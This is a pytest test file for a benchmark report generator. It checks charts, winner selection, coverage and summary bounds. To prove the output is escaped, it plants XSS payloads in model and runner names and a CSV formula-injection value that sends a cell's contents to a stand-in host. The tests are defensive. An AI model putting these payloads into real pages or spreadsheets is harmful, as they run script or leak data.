"""`bench report` on real results plus planted rows: every chart, escaping, winners, bounds, degradation."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from datetime import timedelta
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from report_fixtures import NOW, bench_report, copy_results, planter, samples, visit

from bench.cli import main
from bench.report import build_report, data, eager, scenarios, views
from bench.report.summary import LIMIT_BYTES, MAX_MACHINES, MAX_ROWS, summary_markdown
from bench.results.uri import Location

FIGURES = ("fig-matrix", "fig-scenarios", "fig-latency", "fig-speedup", "fig-ecdf", "fig-pareto", "fig-resources",
           "fig-eager", "fig-tasks", "fig-precisions", "fig-efficiency", "fig-coverage", "fig-throughput", "fig-trends",
           "fig-environment", "fig-problems", "fig-cases", "fig-ops")
XSS_MODEL = "<script>alert(1)</script>"
XSS_RUNNER = '"><img src=x onerror=alert(2)>'
XSS_ERROR = "bad op <img src=x onerror=alert(3)> & friends | `pipes`\nsecond line"
INT8_RECIPE = "planted: static QDQ, MinMax, per-channel weights"
INT8_LIMIT = "build: planted, no VNNI kernels"


@pytest.fixture(scope="module")
def planted(real_results, tmp_path_factory) -> Path:
    """The real run, plus: a fast wrong runner, a fast right one with a batch series (both faster than the
    real run), an eager PyTorch row (slower), failures of every kind, a hostile model name, and an earlier run of
    the real case keys."""
    results = copy_results(real_results, tmp_path_factory.mktemp("report") / "results")
    p = planter(results, "20261120T120000Z-plant1", NOW, template_from=real_results, machine_id="other-machine",
                cpu_model="Other CPU <b>bold</b>")
    p.case(runner="fastwrong", samples_ns=samples(0.0002, seed=1), accuracy_ok=False, cosine=0.4,
           normalized_error=0.9, accuracy_reason="cosine 0.4 < 0.9999")
    for batch in (1, 2, 4, 8):
        ms = 0.0008 * batch ** 0.7
        p.case(runner="right", batch=batch, samples_ns=samples(ms, seed=batch), throughput_per_s=batch / ms * 1e3,
               accuracy_ok=True, normalized_error=1e-6, cosine=0.999999)
    p.case(runner="pytorch", samples_ns=samples(0.004, seed=5), accuracy_ok=True, normalized_error=1e-6,
           cosine=0.999999)  # the eager baseline of the speed-up over PyTorch eager
    p.case(failed=("conversion_failed", "converter refused op Foo"), runner="right", precision="fp16")
    p.case(failed=("crashed", "worker died: SIGSEGV"), runner="fastwrong", precision="fp16")
    p.case(failed=("unsupported", "fastwrong does not do int8"), runner="fastwrong", precision="int8")
    p.case(model=XSS_MODEL, runner=XSS_RUNNER, samples_ns=samples(0.5, seed=9), accuracy_ok=True)
    p.case(model="ocr", runner="right", samples_ns=samples(0.3, seed=4), accuracy_ok=True, task_metric="exact_match",
           task_value=0.875, task_n=200, weights="trained")
    p.case(model="ocr", runner="right", precision="int8", samples_ns=samples(0.15, seed=6), accuracy_ok=True,
           task_metric="exact_match", task_value=0.86, task_n=200, quant_recipe=INT8_RECIPE, quant_limit=INT8_LIMIT)
    p.case(failed=("error", XSS_ERROR), model=XSS_MODEL, runner=XSS_RUNNER, precision="fp16")
    _plant_profile(p, results)
    earlier = planter(results, "20261119T120000Z-plant0", NOW - timedelta(days=1), template_from=real_results,
                      git_commit="abcdef0123")
    for row in _real_rows(real_results):
        earlier.case(model=row["model"], threads=row["threads"], samples_ns=samples(row["median_ms"] * 1.1, seed=3))
    return results


def _plant_profile(p, results: Path) -> None:
    """A profiled case (--profile) and its nodes in the ops table, one of them named like markup."""
    from bench.results import layout

    row = p.case(model="profiled", runner="right", samples_ns=samples(0.2, seed=7), accuracy_ok=True, profile_runs=5,
                 profile_ops=2, profile_total_ms=0.19, profile_coverage=0.95, profile_agrees=True)
    common = {"run_id": p.run_id, "case_key": row["case_key"], "model": "profiled", "runner": "right"}
    layout.write_ops(Location.resolve(results), p.run_id, p.started, p.index - 1, [
        {**common, "rank": 1, "node": XSS_MODEL, "op_type": "Convolution", "median_ms": 0.15, "share": 0.79},
        {**common, "rank": 2, "node": "relu", "op_type": "Relu", "median_ms": 0.04, "share": 0.21}])


def _real_rows(results: Path) -> list[dict]:
    from bench.results import store

    return store.read_cases(Location.resolve(results), ["model", "threads", "median_ms"]).to_pylist()


@pytest.fixture(scope="module")
def report(planted, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("out") / "site"
    done = bench_report(planted, out)
    assert f"report: {out / 'index.html'}" in done.stdout
    return out


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_every_chart_is_a_figure_with_content(report):
    page = (report / "index.html").read_text()
    ids = re.findall(r'<figure id="([^"]+)"', page)
    assert sorted(ids) == sorted(FIGURES)
    assert "no data for" not in page  # the planted set has something for every chart
    for figure in FIGURES[2:7] + ("fig-throughput", "fig-trends"):
        body = page.split(f'<figure id="{figure}">')[1].split("</figure>")[0]
        assert "<svg" in body, figure


def test_page_is_self_contained(report):
    page = (report / "index.html").read_text()
    assert not re.search(r'(src|href)="(https?:)?//', page), "the page must not load anything"
    assert "default-src 'none'" in page
    assert page.count("<script") == 1  # ours, allowed by hash; nothing else


def test_user_strings_are_text_never_tags(report):
    page = (report / "index.html").read_text()
    assert XSS_MODEL not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    svgs = re.findall(r"<svg.*?</svg>", page, flags=re.S)
    texts = []
    for svg in svgs:  # every chart is well-formed XML, and the hostile name is inside it as text
        tree = ET.fromstring(svg)
        assert not [e for e in tree.iter() if e.tag.split("}")[-1] in ("script", "foreignObject", "img")]
        texts += [t for e in tree.iter() for t in (e.text, e.tail) if t]
    assert any(XSS_MODEL in t for t in texts) and any(XSS_RUNNER in t for t in texts)
    summary = (report / "summary.md").read_text()
    assert "<script>" not in summary and "<img" not in summary


def test_wrong_output_is_never_the_winner(report):
    winners = {(w["machine"], w["model"], w["config"]): w for w in read_csv(report / "winners.csv")}
    # the planted rows come from another machine: they never compete with this machine's real ones
    mlp = winners[("other-machine", "tiny_mlp", "cpu b1 t1 latency")]
    assert mlp["winner"] == "right fp32" and mlp["runner_up"] == "pytorch fp32"  # not fastwrong: faster, wrong
    assert mlp["wrong_but_faster"] == "fastwrong fp32"
    [here] = [w for (machine, model, cfg), w in winners.items()
              if machine != "other-machine" and (model, cfg) == ("tiny_mlp", "cpu b1 t1 latency")]
    assert here["winner"] == "onnxruntime fp32" and here["wrong_but_faster"] == ""
    pareto = [r for r in read_csv(report / "pareto.csv") if r["runner"] == "fastwrong"]
    assert pareto and all(r["fastest"] == "False" and r["on_front"] == "False" for r in pareto)
    summary = (report / "summary.md").read_text()
    assert "| other-machine | tiny_mlp | cpu b1 t1 latency | right fp32 |" in summary
    assert "### Wrong outputs" in summary and "fastwrong" in summary.split("### Wrong outputs")[1]


def test_coverage_names_every_outcome(report):
    cells = {(r["model"], r["runner"], r["precision"]): r["category"] for r in read_csv(report / "coverage.csv")}
    assert cells[("tiny_mlp", "right", "fp16")] == "conversion failed"
    assert cells[("tiny_mlp", "fastwrong", "fp16")] == "crashed"
    assert cells[("tiny_mlp", "fastwrong", "int8")] == "unsupported"
    assert cells[("tiny_mlp", "fastwrong", "fp32")] == "wrong output"
    assert cells[("tiny_mlp", "onnxruntime", "fp32")] == "ok"
    summary = (report / "summary.md").read_text()
    failed = summary.split("### Failed cases")[1]
    assert "crashed" in failed and "conversion_failed" in failed and "unsupported" not in failed


def test_tables_behind_the_charts(report):
    speedup = {(r["runner"], r["config"]): float(r["speedup"]) for r in read_csv(report / "speedup.csv")}
    assert speedup[("onnxruntime", "cpu b1 t1 latency")] == 1.0
    assert speedup[("fastwrong", "cpu b1 t1 latency")] > speedup[("right", "cpu b1 t1 latency")] > 1.0
    batches = [int(r["batch"]) for r in read_csv(report / "throughput_batch.csv") if r["runner"] == "right"]
    assert batches == [1, 2, 4, 8]
    trends = read_csv(report / "trends.csv")
    assert {r["run_id"] for r in trends} >= {"20261119T120000Z-plant0"} and len({r["run_id"] for r in trends}) == 2
    machines = read_csv(report / "environment.csv")
    assert len(machines) == 2 and any(m["cpu_model"] == "Other CPU <b>bold</b>" for m in machines)
    this_machine = next(m for m in machines if m["cpu_model"] != "Other CPU <b>bold</b>")
    assert "fp16" in this_machine["cpu_precision_features"]  # "fp16: FLAG" or "no fp16, ...": recorded either way
    dist = read_csv(report / "distribution.csv")
    assert all(float(r["p0_ms"]) <= float(r["p50_ms"]) <= float(r["p100_ms"]) for r in dist)
    assert len(read_csv(report / "cases.csv")) == 4 + 14  # the real keys (also in the earlier run) + planted
    top = read_csv(report / "ops_top.csv")
    assert [(r["node"], r["share"]) for r in top] == [(XSS_MODEL, "0.79"), ("relu", "0.21")]
    assert [r["shares"] for r in read_csv(report / "op_types.csv")] == ["Conv 79% on right fp32 t1",
                                                                        "Activation 21% on right fp32 t1"]
    tasks = read_csv(report / "task_accuracy.csv")
    assert [(t["model"], t["precision"], t["task_metric"], float(t["task_value"])) for t in tasks] == [
        ("ocr", "fp32", "exact_match", 0.875), ("ocr", "int8", "exact_match", 0.86)]
    real = [e for e in read_csv(report / "efficiency.csv") if e["runner"] == "onnxruntime"]
    assert real and all(float(e["achieved_gflops"]) > 0 and float(e["peak_gflops"]) > 0 for e in real)
    assert "Other CPU &lt;b&gt;bold&lt;/b&gt;" in (report / "index.html").read_text()


def test_trend_lines_never_join_machines():
    history = [{"case_key": "k", "model": "m", "run_id": f"r{i}", "run_time": i, "git_commit": None,
                "machine": machine, "median_ms": 1.0} for i, machine in enumerate(["a", "b", "a", "c"])]
    rows = views.trends(history).records()
    assert [(r["run_id"], r["machine"]) for r in rows] == [("r0", "a"), ("r2", "a")]


def test_one_run_only(planted):
    cases = data.load(Location.resolve(planted), run_id="20261119T120000Z-plant0").cases
    assert len(cases) == 4 and {c["run_id"] for c in cases} == {"20261119T120000Z-plant0"}
    assert len(data.load(Location.resolve(planted)).cases) == 18


def test_missing_columns_and_empty_views_degrade_to_notes(tmp_path):
    old = pa.table({"run_id": ["r0"], "case_key": ["m/x"], "median_ms": [2.0], "status": ["ok"],
                    "timestamp": pa.array([NOW], pa.timestamp("us", tz="UTC"))})
    (tmp_path / "old" / "cases" / "run_id=r0").mkdir(parents=True)
    pq.write_table(old, tmp_path / "old" / "cases" / "run_id=r0" / "a.parquet")
    (tmp_path / "empty").mkdir()
    for name, empty in (("old", 13), ("empty", len(FIGURES))):  # old rows: no accuracy, so no pick either
        files = build_report(tmp_path / name, tmp_path / f"{name}-out")
        page = files.index.read_text()
        assert sorted(re.findall(r'<figure id="([^"]+)"', page)) == sorted(FIGURES)
        assert page.count('<p class="nodata">no data for') == empty, name
        assert files.summary.stat().st_size < 2000
    old_page = (tmp_path / "old-out" / "index.html").read_text()
    assert "no data for latency distributions: no raw samples" in old_page and "<svg" in old_page


def test_user_errors_are_one_line(planted, tmp_path, capsys):
    for args, needle in [(["--results", str(tmp_path / "nowhere")], "no results folder"),
                         (["--results", str(planted), "--run", "nope"], "--run: no run 'nope'")]:
        assert main(["report", *args, "--out", str(tmp_path / "out")]) == 2
        err = capsys.readouterr().err
        assert needle in err and err.count("\n") == 1, err
    assert not (tmp_path / "out").exists()


def _case(i: int) -> dict:
    long = "x" * 50_000
    return {"case_key": f"model{i}/r{i % 7}/cpu/fp32/b1/t1/latency/{long}", "model": f"model{i % 300}{long}",
            "runner": f"r{i % 7}", "device": "cpu", "precision": "fp32", "batch": 1, "threads": 1,
            "scenario": "latency", "status": ["ok", "ok", "error", "crashed"][i % 4], "error": long + "|\n<b>",
            "median_ms": 1.0 + i % 13, "median_ci_low_ms": 0.9, "median_ci_high_ms": 1.1 + i % 13,
            "accuracy_ok": i % 5 != 0, "accuracy_reason": long}


def _op_tables(cases: list[dict]) -> tuple[views.Table, views.Table]:
    """Every case profiled, each with 20 long-named nodes of 20 op types."""
    from bench.report import ops

    rows = [{"run_id": None, "case_key": c["case_key"], "rank": k + 1, "node": f"node{k}" + "y" * 1000,
             "op_type": f"Op{k}" + "z" * 1000, "kernel": "k" * 1000, "op_precision": "fp32", "median_ms": 1.0,
             "share": 0.05} for c in cases[:100] for k in range(20)]
    return ops.op_families(cases, rows), ops.top_ops(cases, rows)


def test_summary_is_bounded_by_construction():
    cases = [_case(i) for i in range(5000)]
    picks = scenarios.scenario_table(cases)
    text = summary_markdown(cases, views.winners(cases), views.wrong_outputs(cases), views.failures(cases), "all",
                            views.winners_by_precision(cases), views.int8_speedup(cases), picks,
                            scenarios.cross_machine(picks), None, op_tables=_op_tables(cases))
    assert len(text.encode()) < LIMIT_BYTES < 1 << 20
    assert text.count("more op families") == text.count("more profiled ops") == 1
    assert text.count("more winners") == text.count("more wrong outputs") == text.count("more failed cases") == 1
    assert text.count("more scenario picks") == 1
    tables = [line for line in text.splitlines() if line.startswith("| ")]
    assert len(tables) <= 9 * (MAX_ROWS + 1) + MAX_MACHINES  # the matrices: MAX_ROWS models in all
    assert text.count("more models") == 1
    assert "<b>" not in text
    pipes = {len(re.findall(r"(?<!\\)\|", line)) for line in tables}  # escaped pipes stay inside their cell
    # scenarios: 12 columns, winners: 10, wrong: 5, failed: 4, per precision: 7, int8: 12 (INT8_SHOWN), op families: 2,
    # top ops: 8
    assert pipes <= {13, 11, 6, 5, 8, 3, 9}
    assert {13, 11, 6, 5} <= pipes


def test_report_imports_no_runner(planted, tmp_path):
    code = ("import sys; from pathlib import Path; from bench.report import build_report;"
            f"build_report(Path({str(planted)!r}), Path({str(tmp_path / 'o')!r}));"
            "bad = [m for m in sys.modules if m.startswith('bench.runners') or m in "
            "('onnxruntime', 'openvino', 'ncnn', 'MNN')]; print(bad); sys.exit(1 if bad else 0)")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr


SCRIPT = """
(async () => {
  const ids = [...document.querySelectorAll("figure[id]")].map(f => f.id);
  const table = document.querySelector("#fig-cases table");
  const column = [...table.tHead.rows[0].cells].findIndex(c => c.textContent === "median_ms");
  const values = () => [...table.tBodies[0].rows].map(r => r.cells[column].textContent);
  table.tHead.rows[0].cells[column].click();
  const sorted = values();
  const filter = document.getElementById("filter");
  filter.value = "right";
  filter.dispatchEvent(new Event("input"));
  const shown = [...table.tBodies[0].rows].filter(r => !r.hidden).length;
  const hostile = [...document.querySelectorAll("td, th, text")].filter(e => e.textContent.includes("<script>"));
  const picks = [...document.querySelectorAll("#fig-scenarios td a")];
  const linked = picks.filter(a => document.getElementById(a.hash.slice(1)) !== null).length;
  const scenarios = [...document.querySelectorAll("#fig-scenarios tbody tr")].map(r => r.cells[2].textContent);
  return {ids, sorted, shown, hostile: hostile.length, scripts: document.scripts.length,
          rows: table.tBodies[0].rows.length, picks: picks.length, linked, scenarios};
})()
"""


@pytest.mark.slow
def test_page_opens_in_a_real_browser_cleanly(report, tmp_path):
    seen = visit(report / "index.html", SCRIPT, tmp_path / "profile")
    assert seen.errors == [] and seen.dialogs == []
    assert [u for u in seen.requests if not u.startswith(("file:", "data:"))] == []  # nothing from a network
    assert sorted(seen.result["ids"]) == sorted(FIGURES)
    assert seen.result["ids"][:2] == ["fig-matrix", "fig-scenarios"]  # the answer first
    assert seen.result["picks"] > 0 and seen.result["linked"] == seen.result["picks"]  # every pick opens its case
    assert "realtime, 1 thread" in seen.result["scenarios"]
    numbers = [float(v) for v in seen.result["sorted"] if v]
    assert numbers == sorted(numbers) and len(numbers) >= 10  # the header click sorted the column
    assert 0 < seen.result["shown"] < seen.result["rows"]  # the filter hid rows
    assert seen.result["hostile"] >= 2 and seen.result["scripts"] == 1  # shown as text, never run
    shot = tmp_path / "report.png"
    shot.write_bytes(seen.screenshot)
    try:
        from PIL import Image, ImageStat
    except ImportError:
        assert len(seen.screenshot) > 20_000, f"screenshot looks blank: {shot}"
    else:
        image = Image.open(io.BytesIO(seen.screenshot)).convert("L")
        assert image.size == (1280, 2000)
        assert ImageStat.Stat(image).stddev[0] > 10, f"screenshot looks blank: {shot}"


@pytest.mark.slow
def test_the_browser_check_catches_errors_dialogs_and_fetches(report, tmp_path):
    """The check above is only worth something if it fails on a bad page: here, one without its CSP."""
    page = (report / "index.html").read_text()
    page = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    page = page.replace("var filter =", 'alert("planted"); null.x; var filter =')
    page = page.replace("</main>", '<img src="http://example.invalid/x.png"></main>')
    bad = tmp_path / "bad.html"
    bad.write_text(page)
    seen = visit(bad, "1", tmp_path / "profile")
    assert seen.dialogs == ["planted"]
    assert any("Cannot read properties of null" in e for e in seen.errors)
    assert "http://example.invalid/x.png" in seen.requests


def test_winners_compare_like_with_like_and_int8_is_set_against_its_own_fp32():
    def case(runner: str, precision: str, ms: float, ok: bool = True) -> dict:
        return {"model": "m", "device": "cpu", "batch": 1, "threads": 1, "scenario": "latency", "runner": runner,
                "precision": precision, "status": "ok", "accuracy_ok": ok, "median_ms": ms,
                "median_ci_low_ms": ms * 0.99, "median_ci_high_ms": ms * 1.01, "case_key": f"m/{runner}/{precision}"}

    cases = [case("ort", "int8", 1.0), case("ort", "fp32", 3.0), case("ov", "fp32", 2.0),
             case("ov", "int8", 1.5, ok=False)]
    [win] = views.winners(cases).records()
    assert (win["winner"], win["runner_up"]) == ("ort int8", "ov fp32")
    assert win["like_for_like"] == "no: ov has no passing int8 row"  # its int8 row failed the tolerance
    by = {r["precision"]: r for r in views.winners_by_precision(cases).records()}
    assert (by["fp32"]["fastest"], by["fp32"]["runners_passing"]) == ("ov", 2)
    assert (by["int8"]["fastest"], by["int8"]["runners_passing"]) == ("ort", 1)
    speedup = {r["runner"]: r for r in views.int8_speedup(cases).records()}
    assert speedup["ort"]["speedup"] == 3.0 and speedup["ort"]["int8_accuracy_ok"] is True
    assert speedup["ov"]["speedup"] == round(2.0 / 1.5, 2) and speedup["ov"]["int8_accuracy_ok"] is False


def test_int8_view_sets_each_runtime_against_its_own_fp32_with_task_scores_recipe_and_limit():
    """Issue 31: per runtime, int8's speed-up over its own fp32 (same model, machine, threads, batch) with the task
    score of both beside it, and the recipe and limit from the int8 row; other threads or machines never pair."""
    def case(runner: str, precision: str, ms: float, threads: int = 1, machine: str = "a", **more) -> dict:
        return {"machine": machine, "model": "rec", "device": "cpu", "batch": 1, "threads": threads,
                "scenario": "latency", "runner": runner, "precision": precision, "status": "ok", "accuracy_ok": True,
                "median_ms": ms, "case_key": f"rec/{runner}/{precision}/t{threads}", **more}

    cases = [case("mnn", "fp32", 7.0, task_metric="exact_match", task_value=0.995, weights="random (seeded)"),
             case("mnn", "int8", 20.0, task_metric="exact_match", task_value=0.99, quant_recipe="EMA, conv only",
                  quant_limit="build: no AVX512-VNNI kernels in the wheel"),
             case("openvino", "fp32", 32.0, task_metric="exact_match", task_value=0.995, weights="trained"),
             case("openvino", "int8", 8.0, task_metric="exact_match", task_value=0.99123456,
                  quant_recipe="NNCF PTQ, model_type TRANSFORMER"),
             case("openvino", "int8", 4.0, threads=2),  # no fp32 at 2 threads: no pair
             case("ncnn", "fp32", 16.9, machine="b"), case("ncnn", "int8", 12.4, machine="a")]  # other machines
    rows = {r["runner"]: r for r in views.int8_speedup(cases).records()}
    assert set(rows) == {"mnn", "openvino"}
    ov, mnn = rows["openvino"], rows["mnn"]
    assert (ov["fp32_ms"], ov["int8_ms"], ov["speedup"]) == (32.0, 8.0, 4.0)
    assert (ov["task_metric"], ov["fp32_task"], ov["int8_task"]) == ("exact_match", 0.995, 0.9912)
    assert ov["recipe"] == "NNCF PTQ, model_type TRANSFORMER" and ov["limited_by"] is None
    assert mnn["speedup"] == round(7.0 / 20.0, 2) and mnn["limited_by"].startswith("build: ")
    assert mnn["recipe"] == "EMA, conv only" and mnn["int8_task"] == 0.99
    assert (ov["weights"], mnn["weights"]) == ("trained", "random (seeded)")  # int8 accuracy on random weights: weak


def test_int8_view_is_on_the_page_in_the_summary_and_csv(report):
    [row] = read_csv(report / "int8_speedup.csv")
    assert (row["model"], row["runner"], row["task_metric"]) == ("ocr", "right", "exact_match")
    assert row["weights"] == "trained"  # the trained model's int8 task score means something
    assert float(row["speedup"]) == round(float(row["fp32_ms"]) / float(row["int8_ms"]), 2) > 1
    assert (float(row["fp32_task"]), float(row["int8_task"])) == (0.875, 0.86)
    assert (row["recipe"], row["limited_by"]) == (INT8_RECIPE, INT8_LIMIT)
    summary = (report / "summary.md").read_text().split("### int8 against each runtime's own fp32")[1]
    assert f"| 0.875 | 0.86 | {INT8_RECIPE} | {INT8_LIMIT} |" in summary.split("###")[0]
    page = (report / "index.html").read_text().split('<figure id="fig-precisions">')[1].split("</figure>")[0]
    assert INT8_RECIPE in page and INT8_LIMIT in page and "int8 speed-up" in page


def test_speedup_over_eager_sets_every_runtime_against_eager_fp32_and_never_counts_a_wrong_output():
    def case(runner: str, precision: str, ms: float, ok: bool = True, threads: int = 1) -> dict:
        return {"model": "m", "device": "cpu", "batch": 1, "threads": threads, "scenario": "latency",
                "runner": runner, "precision": precision, "status": "ok", "accuracy_ok": ok, "median_ms": ms,
                "cold_start_ms": 10 * ms, "case_key": f"m/{runner}/{precision}/t{threads}"}

    cases = [case("pytorch", "fp32", 8.0), case("pytorch", "bf16", 4.0), case("onnxruntime", "fp32", 4.0),
             case("executorch", "int8", 2.0, ok=False), case("executorch", "fp32", 2.0),
             case("pytorch_compile", "fp32", 5.0), case("onnxruntime", "fp32", 1.0, threads=2)]
    long = eager.over_eager(cases)
    by = {(r["runner"], r["precision"]): r for r in long.records()}
    assert by[("pytorch", "bf16")]["speedup"] == 2.0  # against eager fp32, not eager bf16
    assert by[("executorch", "fp32")]["speedup"] == 4.0 and by[("pytorch", "fp32")]["speedup"] == 1.0
    assert by[("pytorch_compile", "fp32")]["cold_start_ms"] == 50.0 and len(long.rows) == 6  # t2: no baseline
    [row] = eager.over_eager_wide(long).records()
    assert list(row)[2:6] == ["eager_fp32_ms", "pytorch fp32", "pytorch bf16", "pytorch_compile fp32"]
    assert row["executorch int8"] == eager.WRONG and row["onnxruntime fp32"] == 2.0
    assert eager.over_eager([case("onnxruntime", "fp32", 1.0)]).note.startswith("no eager PyTorch")


def test_csv_cells_a_spreadsheet_would_run_are_inert(tmp_path):
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    table = views.Table("t", ("model", "median_ms", "note"), [(formula, -1.5, "+1"), ("plain", 2.0, "@SUM(A1)")])
    rows = read_csv(table.write_csv(tmp_path))
    assert [r["model"] for r in rows] == ["'" + formula, "plain"]
    assert rows[0]["median_ms"] == "-1.5" and rows[0]["note"] == "'+1" and rows[1]["note"] == "'@SUM(A1)"
